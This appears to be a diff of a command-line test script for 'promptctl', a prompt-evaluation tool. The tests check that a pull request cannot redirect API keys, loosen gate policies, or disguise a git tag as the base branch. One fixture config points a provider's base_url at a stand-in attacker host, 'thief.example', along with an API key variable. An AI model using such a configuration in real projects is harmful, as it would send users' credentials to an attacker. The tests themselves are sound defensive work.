@@ -119,7 +119,7 @@ hello@git:HEAD and hello are identical: sha256:3b3e760e3749
 # A base that is not here is never taken for agreement.
 $ promptctl -C shop eval
 [stderr]
-error[no-base]: where keys may go is for origin/gone to say, and its promptctl.yaml can't be read: git knows no revision `refs/remotes/origin/gone`
+error[no-base]: what a pull request may not decide is for origin/gone to say, and that can't be read: git knows no revision `refs/remotes/origin/gone`
   hint: fetch it: git fetch origin gone:refs/remotes/origin/gone (actions/checkout: fetch-depth: 0)
 [exit 2]
 $ GITHUB_BASE_REF= promptctl -C shop eval
@@ -129,7 +129,7 @@ error[no-base]: this is a pull request, and nothing tells which branch it goes t
 [exit 2]
 $ GITHUB_BASE_REF=main promptctl -C shop eval --untrusted=nowhere
 [stderr]
-error[no-base]: where keys may go is for nowhere to say, and its promptctl.yaml can't be read: git knows no revision `nowhere`
+error[no-base]: what a pull request may not decide is for nowhere to say, and that can't be read: git knows no revision `nowhere`
   hint: fetch it, or name another revision: --untrusted=BASE
 [exit 2]
 # Only --trust-head sends to the changed address, and a decision says so.
@@ -144,7 +144,7 @@ $ GITHUB_BASE_REF=gone promptctl -C shop eval --no-cache --format csv --trust-he
 run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
 "20260105-100000-89025cc1","hello","a","local/small",1,error,,,,,,,false,"the environment variable NO_SUCH_TOKEN is not set",""
 [stderr]
-note: --trust-head: requests go by promptctl.yaml of this pull request; what it changes can't be told: where keys may go is for origin/gone to say, and its promptctl.yaml can't be read: git knows no revision `refs/remotes/origin/gone`
+note: --trust-head: requests go by promptctl.yaml of this pull request; what it changes can't be told: what a pull request may not decide is for origin/gone to say, and that can't be read: git knows no revision `refs/remotes/origin/gone`
 [exit 2]
 $ GITHUB_BASE_REF=main NO_SUCH_TOKEN=stolen promptctl -C shop gate hello --against hello@git:HEAD~1 --eval --trust-head -q --format github
 ::warning file=prompts/hello.prompt,title=inconclusive%3A pass_rate not worse by 5%25::hello with local/small: +0.0 points (-79.3 to +79.3); the interval holds the limit; about 251 more cases would show that it holds
@@ -203,11 +203,52 @@ run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,outpu
 [stderr]
 note: promptctl.yaml of this pull request changes type, base_url, api_key of `openai`: requests go by origin/main's entry, to https://api.openai.com/v1
 [exit 2]
+# A registry that the branch puts in front of the base's does not choose either.
+-- shop/team/promptctl.yaml
+format: 1
+providers:
+  local: {type: openai, base_url: "https://thief.example/v1", api_key: "${LOCAL_KEY}"}
+-- shop/team/prompts/hello.prompt
+---
+model: local/small
+---
+Hello
+-- shop/team/golden/hello/suite.yaml
+prompt: hello
+cases: cases.jsonl
+assert: [{type: contains, value: Hello}]
+-- shop/team/golden/hello/cases.jsonl
+{"id": "a", "vars": {}}
+$ promptctl -C shop/team eval --no-cache --format csv
+run,suite,case,target,repeat,verdict,score,latency_ms,ttft_ms,input_tokens,output_tokens,cost_usd,cached,reasons,output
+"20260105-120000-89025cc1","hello","a","local/small",1,passed,1,0,0,2,2,,false,"","Hello"
+[stderr]
+note: promptctl.yaml of this pull request changes base_url of `local`: requests go by origin/main's entry, to ${MOCK_URL}
+[exit 0]
+# A policy's file is the base's.
+-- shop/gates/loose.yaml
+rules: [{metric: pass_rate, at_least: 0%}]
+$ promptctl -C shop gate hello --against hello@git:HEAD~1 --policy gates/loose.yaml --offline
+[stderr]
+gates/loose.yaml: error[missing-file]: origin/main has no such file, and a pull request's own policy does not count
+  hint: merge the policy first
+[exit 2]
+$ git -C shop stash -qu
+$ git -C shop checkout -q main
+-- shop/gates/strict.yaml
+{min_cases: 50, rules: [{metric: pass_rate, at_least: 0%}]}
+$ git -C shop add -A
+$ git -C shop commit -qm "a gate"
+$ git -C shop update-ref refs/remotes/origin/main HEAD
+-- shop/gates/strict.yaml
+{min_cases: 1, rules: [{metric: pass_rate, at_least: 0%}]}
+$ promptctl -C shop gate hello --against hello@git:HEAD --policy gates/strict.yaml --format github
+::warning file=prompts/hello.prompt,title=inconclusive%3A pass_rate at least 0%25::hello with local/small: 100.0%25; 1 of the 50 cases that the policy asks for
+[exit 3]
 # A tag that looks like the base is no base.
 $ git -C shop tag origin/main thief
 $ promptctl -C shop gate --changed-since origin/main
 [stderr]
-note: promptctl.yaml of this pull request changes type, base_url, api_key of `openai`: requests go by origin/main's entry, to https://api.openai.com/v1
 error[ambiguous-revision]: `origin/main` may be refs/remotes/origin/main or refs/tags/origin/main, which differ
   hint: write the whole name, and see who made the other
 [exit 2]
@@ -217,6 +258,6 @@ error[ambiguous-revision]: `origin/main` may be refs/remotes/origin/main or refs
   hint: write the whole name, and see who made the other
 [exit 2]
 $ promptctl -C shop eval --dry-run -q
-hello: 1 case on openai/small, 1 reply each: 1 call
-  about 3 input tokens; cost at most about unknown (no price, or no limit on output tokens)
+hello: 1 case on local/small, 1 reply each: 1 call
+  about 2 input tokens; cost at most about unknown (no price, or no limit on output tokens)
 [exit 0]
